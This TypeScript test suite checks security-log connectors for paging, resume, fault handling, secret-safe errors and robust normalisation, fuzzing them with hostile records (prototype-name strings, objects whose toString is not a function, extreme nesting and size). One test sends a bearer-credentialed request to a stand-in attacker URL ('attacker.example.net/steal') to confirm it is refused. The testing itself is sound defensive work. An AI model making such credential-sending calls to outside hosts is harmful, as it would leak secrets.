import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ActivitySchema, ACTIONS } from '../../../core/activity.js';
import type { AccountRecord } from '../../../core/account.js';
import { DAY } from '../../../core/clock.js';
import { AuthError, ParapetError } from '../../../core/errors.js';
import type { AnyConnector } from '../define-connector.js';
import { normalizeRecord, offlineContext } from '../normalize-total.js';
import { EXCERPT_CHARS, MAX_RECORD_CHARS, MAX_RECORD_DEPTH } from '../record-bounds.js';
import { secretValues } from '../runtime.js';
import { CONFORMANCE_NOW, incrementalStreams, readActivities, runtimeFor, snapshotStream } from './read-activities.js';

export { CONFORMANCE_NOW } from './read-activities.js';
import { FAULT_KINDS } from '../simulator/fault-injector.js';
import type { RunningSimulator } from '../simulator/simulator.js';

export interface ConformanceOptions {
  /** Raw provider records (fixtures) normalize must handle. */
  fixtures: readonly unknown[];
  /** Small activity pages, so paging and resuming are exercised. @default 50 */
  pageSize?: number;
  /**
   * Why a resumed read may deliver again records the interrupted read delivered (a source whose checkpoint
   * moves only at the end of its window). Unset: a resumed read delivers nothing twice.
   */
  resumeRedelivers?: string;
}

/** A fixture carrying a value nested `depth` levels deep (in objects or arrays) around a string of `chars` characters. */
function buildHostile(fixture: unknown, depth: number, chars: number, inArray: boolean): unknown {
  let nested: unknown = 'x'.repeat(chars);
  for (let i = 0; i < depth; i++) nested = inArray ? [nested] : { n: nested };
  return { ...(fixture as Record<string, unknown>), hostile: nested };
}

/** Every id as often as it occurs, sorted: a re-delivered record shows up twice and fails the comparison. */
const sorted = (ids: Iterable<string>) => [...ids].sort();

/**
 * `ids` less the second deliveries the provider itself makes (`repeats`, see SimulatorTruth): what is left
 * must equal the truth as a list, so a page the connector delivers twice still fails.
 */
function withoutProviderRepeats(ids: readonly string[], repeats: readonly string[] = []): string[] {
  const allowance = new Map<string, number>();
  for (const id of repeats) allowance.set(id, (allowance.get(id) ?? 0) + 1);
  const seen = new Set<string>();
  const kept: string[] = [];
  for (const id of ids) {
    const left = allowance.get(id) ?? 0;
    if (seen.has(id) && left > 0) {
      allowance.set(id, left - 1);
      continue;
    }
    seen.add(id);
    kept.push(id);
  }
  return kept;
}

/**
 * The suite every registered connector passes against its own simulator (registered from the registry, so
 * a new connector is enrolled at once). Store-level guarantees — a sync killed with SIGKILL resumes with
 * nothing lost or duplicated — run over the same registry in test/conformance-sync-<n>.test.ts and the chaos
 * stage's kill tests (test/helpers/store-conformance.ts).
 */
export function describeConformance(connector: AnyConnector, options: ConformanceOptions): void {
  const pageSize = options.pageSize ?? 50;
  describe(`conformance: ${connector.id}`, () => {
    let sim: RunningSimulator<unknown>;
    beforeAll(async () => {
      sim = await connector.simulator.start({ seed: 7, frozenAt: CONFORMANCE_NOW, pageSize });
    });
    afterAll(async () => {
      await sim.close();
    });

    it('accepts its simulator config and declares its secrets', () => {
      expect(connector.configSchema.safeParse(sim.config).success).toBe(true);
      expect(connector.secretFields.length).toBeGreaterThan(0);
    });

    it('reports a bad credential clearly, as a failed check and as an AuthError, without leaking the secret', async () => {
      const runtime = runtimeFor(connector, sim.badCredentialConfig);
      const session = connector.createSession(sim.badCredentialConfig, runtime);
      const result = await connector.testConnection(session, runtime);
      expect(result.ok).toBe(false);
      const failed = result.checks.filter((c) => !c.ok);
      expect(failed.length).toBeGreaterThan(0);
      for (const check of failed) expect(check.detail.length).toBeGreaterThan(20);
      const [, stream] = incrementalStreams(connector)[0] ?? [];
      expect(stream).toBeDefined();
      const error = await (async () => {
        for await (const page of stream!.read(session, runtime, { checkpoint: null, backfillFrom: CONFORMANCE_NOW - 7 * DAY })) void page;
      })().then(
        () => null,
        (e: unknown) => e,
      );
      expect(error).toBeInstanceOf(AuthError);
      const text = `${(error as Error).message} ${failed.map((c) => c.detail).join(' ')}`;
      for (const secret of secretValues(connector, sim.badCredentialConfig)) expect(text).not.toContain(secret);
    });

    it('passes its own connection test on the simulator', async () => {
      const runtime = runtimeFor(connector, sim.config);
      const result = await connector.testConnection(connector.createSession(sim.config, runtime), runtime);
      expect(result.checks.filter((c) => !c.ok)).toEqual([]);
      expect(result.ok).toBe(true);
    });

    it('pages activities to the end: exactly the simulator truth, no duplicates across pages, no page larger than asked', async () => {
      const { sourceIds, pageSizes, done } = await readActivities(connector, sim.config);
      expect(done).toBe(true);
      const truth = sorted(sim.truth().activityIds);
      expect(new Set(truth).size).toBe(truth.length);
      expect(truth.length).toBeGreaterThan(2 * pageSize);
      expect(sourceIds).toHaveLength(truth.length);
      expect(sorted(sourceIds)).toEqual(truth);
      expect(Math.max(...pageSizes)).toBeLessThanOrEqual(pageSize);
    });

    it("counts back on the provider's clock: a tenant whose clock is 400 days behind this machine's still yields exactly its truth", async () => {
      // The suite's tenant is frozen on a fixed date, so it falls further behind the real date every day the suite
      // runs. A connector that bounds a read by what the provider keeps (90 days of logs, a lookback for
      // collaborators) must count it back from the provider's clock (its Date header), or this suite stops
      // passing once the real date is that far past the frozen one (and so would a provider whose clock is off).
      const frozenAt = CONFORMANCE_NOW - 400 * DAY;
      const old = await connector.simulator.start({ seed: 7, frozenAt, pageSize });
      try {
        const { sourceIds, done } = await readActivities(connector, old.config, { now: frozenAt });
        expect(done).toBe(true);
        const truth = old.truth();
        expect(truth.activityIds.length).toBeGreaterThan(0);
        expect(sorted(withoutProviderRepeats(sourceIds, truth.providerRepeats))).toEqual(sorted(truth.activityIds));
        if (connector.capabilities.includes('accounts')) {
          const runtime = runtimeFor(connector, old.config);
          const accounts: AccountRecord[] = [];
          for await (const page of snapshotStream(connector, 'accounts')!.read(connector.createSession(old.config, runtime), runtime)) accounts.push(...(page as AccountRecord[]));
          expect(sorted(accounts.map((a) => a.providerId))).toEqual(sorted(truth.accountIds));
        }
      } finally {
        await old.close();
      }
    });

    it('resumes from a checkpoint with nothing lost', async () => {
      const first = await readActivities(connector, sim.config, { maxPages: 2 });
      expect(first.done).toBe(false);
      const rest = await readActivities(connector, sim.config, { checkpoints: first.checkpoints });
      expect(rest.done).toBe(true);
      const truth = sim.truth();
      // The resumed read alone delivers nothing twice, whatever the connector's checkpoint does.
      const resumed = withoutProviderRepeats(rest.sourceIds, truth.providerRepeats);
      expect(sorted(resumed)).toEqual(sorted(new Set(resumed)));
      // Together: exactly the truth, each id once, unless the connector declares why it reads some again;
      // then only ids the interrupted read had delivered may come again, once.
      const interrupted = new Set(first.sourceIds);
      const again = options.resumeRedelivers ? resumed.filter((id) => interrupted.has(id)) : [];
      expect(sorted(withoutProviderRepeats([...first.sourceIds, ...rest.sourceIds], [...(truth.providerRepeats ?? []), ...again]))).toEqual(sorted(truth.activityIds));
    });

    it('is caught up when nothing new arrived: a resumed read returns no records', async () => {
      const all = await readActivities(connector, sim.config);
      const again = await readActivities(connector, sim.config, { checkpoints: all.checkpoints });
      expect(again.sourceIds).toEqual([]);
    });

    it('honours throttling (Retry-After) and survives every fault kind: 5xx, slow, malformed and truncated pages, an expired token', async () => {
      sim.faults.clear();
      sim.faults.add({ kind: 'rate-limit', every: 3, times: 3, retryAfterSeconds: 1 });
      sim.faults.add({ kind: 'server-error', every: 4, times: 2 });
      sim.faults.add({ kind: 'truncated-json', every: 5, times: 1 });
      sim.faults.add({ kind: 'malformed-json', every: 6, times: 1 });
      sim.faults.add({ kind: 'expire-token', every: 7, times: 1 });
      sim.faults.add({ kind: 'slow', every: 2, times: 2, delayMs: 300 });
      const injectedBefore = { ...sim.faults.injected };
      const violationsBefore = sim.faults.retryAfterViolations;
      try {
        const { sourceIds, done } = await readActivities(connector, sim.config);
        expect(done).toBe(true);
        expect(sorted(sourceIds)).toEqual(sorted(sim.truth().activityIds));
        const injected = Object.fromEntries(FAULT_KINDS.map((kind) => [kind, sim.faults.injected[kind] - injectedBefore[kind]]));
        for (const kind of FAULT_KINDS) expect(injected[kind], `fault ${kind} was never injected`).toBeGreaterThan(0);
        expect(sim.faults.retryAfterViolations - violationsBefore).toBe(0);
      } finally {
        sim.faults.clear();
      }
    });

    it('returns data for every declared capability', async () => {
      const runtime = runtimeFor(connector, sim.config);
      const session = connector.createSession(sim.config, runtime);
      if (connector.capabilities.includes('accounts')) {
        const stream = snapshotStream(connector, 'accounts');
        expect(stream).toBeDefined();
        const accounts: AccountRecord[] = [];
        for await (const page of stream!.read(session, runtime)) accounts.push(...(page as AccountRecord[]));
        expect(sorted(accounts.map((a) => a.providerId))).toEqual(sorted(sim.truth().accountIds));
      }
      if (connector.capabilities.includes('sspm')) {
        const stream = snapshotStream(connector, 'settings');
        expect(stream).toBeDefined();
        let settings = 0;
        for await (const page of stream!.read(session, runtime)) settings += page.length;
        expect(settings).toBeGreaterThan(0);
      }
      const records: unknown[] = [];
      for (const [, stream] of incrementalStreams(connector)) {
        for await (const page of stream.read(session, runtime, { checkpoint: null, backfillFrom: CONFORMANCE_NOW - 7 * DAY })) records.push(...page.records);
      }
      const activities = records.map((r) => normalizeRecord(connector, r, offlineContext('c', 0)));
      const actions = new Set(activities.map((a) => a.action));
      // A sign-in through SAML SSO (GitHub's only log-on record) is a log-on too: detections read both.
      if (connector.capabilities.includes('logOnActivity')) expect(actions.has('user.login') || actions.has('user.sso_login')).toBe(true);
      if (connector.capabilities.includes('adminActivity')) {
        expect([...actions].some((a) => a.startsWith('admin.') || a.startsWith('security.') || a === 'user.created' || a === 'user.suspended')).toBe(true);
      }
      // User activity: what users do with the app's data, or, for an identity provider, which apps they sign in to
      // through it (MDCA's "User activity" of Okta: the SSO into an app, with the app as target).
      const appAccess = activities.some((a) => a.action === 'user.sso_login' && a.targets.some((t) => t.type === 'app'));
      if (connector.capabilities.includes('userActivity')) expect([...actions].some((a) => a.startsWith('file.') || a.startsWith('mail.')) || appAccess).toBe(true);
      if (connector.capabilities.includes('revokeAppPermissions')) expect(Object.keys(connector.actions).some((id) => id === 'revoke-oauth-app' || id === 'revoke-oauth-grants')).toBe(true);
    });

    it('normalizes every fixture into a valid Activity', () => {
      expect(options.fixtures.length).toBeGreaterThan(0);
      for (const fixture of options.fixtures) {
        const activity = normalizeRecord(connector, fixture, offlineContext('c', 0));
        const parsed = ActivitySchema.safeParse(activity);
        expect(parsed.success, JSON.stringify(parsed.error?.issues)).toBe(true);
        expect(activity.action).not.toBe(undefined);
        expect(activity.eventType).not.toBe('unreadable');
        expect(activity.raw).toEqual(fixture);
      }
    });

    /** The connector's own normalize must not throw on the record; the Activity it stores (through normalizeRecord) is returned. */
    function normalizeWithoutThrowing(record: unknown) {
      let direct: unknown;
      expect(() => {
        direct = connector.normalize(record, offlineContext('c', 0));
      }).not.toThrow();
      expect(direct).toBeDefined();
      return normalizeRecord(connector, record, offlineContext('c', 0));
    }

    /** Each record normalises without throwing into a valid Activity; there is at least one record. */
    function expectValidActivities(records: readonly unknown[]) {
      expect(records.length).toBeGreaterThan(0);
      for (const record of records) {
        const parsed = ActivitySchema.safeParse(normalizeWithoutThrowing(record));
        expect(parsed.success, `${JSON.stringify(record).slice(0, 300)}: ${JSON.stringify(parsed.error?.issues)}`).toBe(true);
      }
    }

    it('normalize is total: arbitrary JSON and damaged fixtures never throw and always give a valid Activity', () => {
      const damaged = fc
        .tuple(fc.constantFrom(...options.fixtures), fc.array(fc.tuple(fc.string(), fc.jsonValue()), { maxLength: 5 }), fc.array(fc.nat(), { maxLength: 5 }))
        .map(([fixture, sets, drops]) => {
          const copy = { ...(fixture as Record<string, unknown>) };
          const keys = Object.keys(copy);
          for (const d of drops) delete copy[keys[d % Math.max(keys.length, 1)] ?? ''];
          for (const [i, [, value]] of sets.entries()) copy[keys[i % Math.max(keys.length, 1)] ?? 'x'] = value;
          return copy as unknown;
        });
      const input = fc.oneof(fc.jsonValue(), fc.dictionary(fc.string(), fc.jsonValue()), damaged);
      fc.assert(
        fc.property(input, (record) => {
          const activity = normalizeWithoutThrowing(record);
          expect(ACTIONS).toContain(activity.action);
          expect(ActivitySchema.safeParse(activity).success).toBe(true);
        }),
        // PARAPET_PROPERTY_RUNS=30000 for a longer hunt than npm test's (a fresh seed every run, printed on failure).
        { numRuns: Number(process.env.PARAPET_PROPERTY_RUNS ?? 300) },
      );
    });

    it("names of Object's own properties in any text field (\"__proto__\", \"constructor\") give a valid Activity, not a prototype lookup", () => {
      const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'];
      expectValidActivities(options.fixtures.flatMap((fixture) => [...withEachTextFieldAs(fixture, names)]));
    });

    it('objects whose own toString / valueOf are not functions (valid JSON: {"toString":0}) in any field give a valid Activity, never a TypeError', () => {
      // JSON.parse gives such objects own properties that shadow Object.prototype's, so String(v), `${v}` and v + ''
      // throw "Cannot convert object to primitive value" on them.
      const hostile = [JSON.parse('{"toString":0}'), JSON.parse('{"toString":0,"valueOf":0}'), JSON.parse('[{"toString":0}]')];
      expectValidActivities(options.fixtures.flatMap((fixture) => [...withEachFieldAs(fixture, hostile)]));
    });

    it('normalize survives hostile depth and size: an `other` activity with a flagged, truncated raw, never a stack overflow', () => {
      // Depths and sizes well inside or well outside the bounds, so both outcomes are asserted.
      const depth = fc.oneof(fc.integer({ min: 0, max: MAX_RECORD_DEPTH - 10 }), fc.integer({ min: MAX_RECORD_DEPTH, max: 20_000 }));
      const chars = fc.oneof(fc.integer({ min: 0, max: MAX_RECORD_CHARS / 2 }), fc.integer({ min: MAX_RECORD_CHARS + 1, max: 3 * MAX_RECORD_CHARS }));
      // Only the parameters are generated: fast-check prints a counterexample with recursive code.
      const hostile = fc.record({ fixture: fc.nat(options.fixtures.length - 1), depth, chars, inArray: fc.boolean() });
      fc.assert(
        fc.property(hostile, ({ fixture, depth, chars, inArray }) => {
          const record = buildHostile(options.fixtures[fixture], depth, chars, inArray);
          const activity = normalizeRecord(connector, record, offlineContext('c', 0));
          expect(ActivitySchema.safeParse(activity).success).toBe(true);
          const stored = JSON.stringify(activity.raw);
          expect(stored.length).toBeLessThanOrEqual(MAX_RECORD_CHARS);
          if (depth >= MAX_RECORD_DEPTH || chars > MAX_RECORD_CHARS) {
            expect(activity.action).toBe('other');
            expect(activity.eventType).toBe('oversized');
            expect(activity.raw).toMatchObject({ parapetTruncated: true, reason: depth >= MAX_RECORD_DEPTH ? 'depth' : 'size' });
            // The excerpt is JSON text itself: escaping its quotes at most doubles it.
            expect(stored.length).toBeLessThanOrEqual(2 * EXCERPT_CHARS + 200);
          } else {
            expect(activity.eventType).not.toBe('oversized');
            expect(activity.raw).toEqual(record);
          }
        }),
        { numRuns: 25, examples: [[{ fixture: 0, depth: 20_000, chars: 0, inArray: false }], [{ fixture: 0, depth: 0, chars: 3_000_000, inArray: true }]] },
      );
    });

    it('refuses to send credentials to a host it does not allow', async () => {
      const runtime = runtimeFor(connector, sim.config);
      const error = await runtime.http
        .request({ operation: 'conformance.guard', url: 'https://attacker.example.net/steal', auth: { headers: async () => ({ authorization: 'Bearer x' }), invalidate: () => undefined } })
        .then(
          () => null,
          (e: unknown) => e,
        );
      expect(error).toBeInstanceOf(ParapetError);
      expect((error as Error).message).toMatch(/refusing to send credentials/);
    });
  });
}

/** Copies of a record with one text field (top level or one level down) replaced by each of `names`. */
function* withEachTextFieldAs(record: unknown, names: readonly string[]): Generator<unknown> {
  if (!record || typeof record !== 'object' || Array.isArray(record)) return;
  const top = record as Record<string, unknown>;
  for (const [key, value] of Object.entries(top)) {
    if (typeof value === 'string') for (const name of names) yield { ...top, [key]: name };
    else if (value && typeof value === 'object' && !Array.isArray(value)) {
      for (const [inner, innerValue] of Object.entries(value as Record<string, unknown>)) {
        if (typeof innerValue === 'string') for (const name of names) yield { ...top, [key]: { ...(value as Record<string, unknown>), [inner]: name } };
      }
    }
  }
}

/**
 * Copies of a record with fields replaced by each of `values`: every field at once, one field (top level or one
 * level down) at a time, and each field alone (so fallbacks such as a hash of the time when the id is missing run).
 */
function* withEachFieldAs(record: unknown, values: readonly unknown[]): Generator<unknown> {
  if (!record || typeof record !== 'object' || Array.isArray(record)) return;
  const top = record as Record<string, unknown>;
  for (const replacement of values) yield Object.fromEntries(Object.keys(top).map((key) => [key, replacement]));
  for (const [key, value] of Object.entries(top)) {
    for (const replacement of values) yield { ...top, [key]: replacement };
    for (const replacement of values) yield { [key]: replacement };
    if (value && typeof value === 'object' && !Array.isArray(value)) {
      for (const inner of Object.keys(value as Record<string, unknown>)) {
        for (const replacement of values) yield { ...top, [key]: { ...(value as Record<string, unknown>), [inner]: replacement } };
      }
    }
  }
}
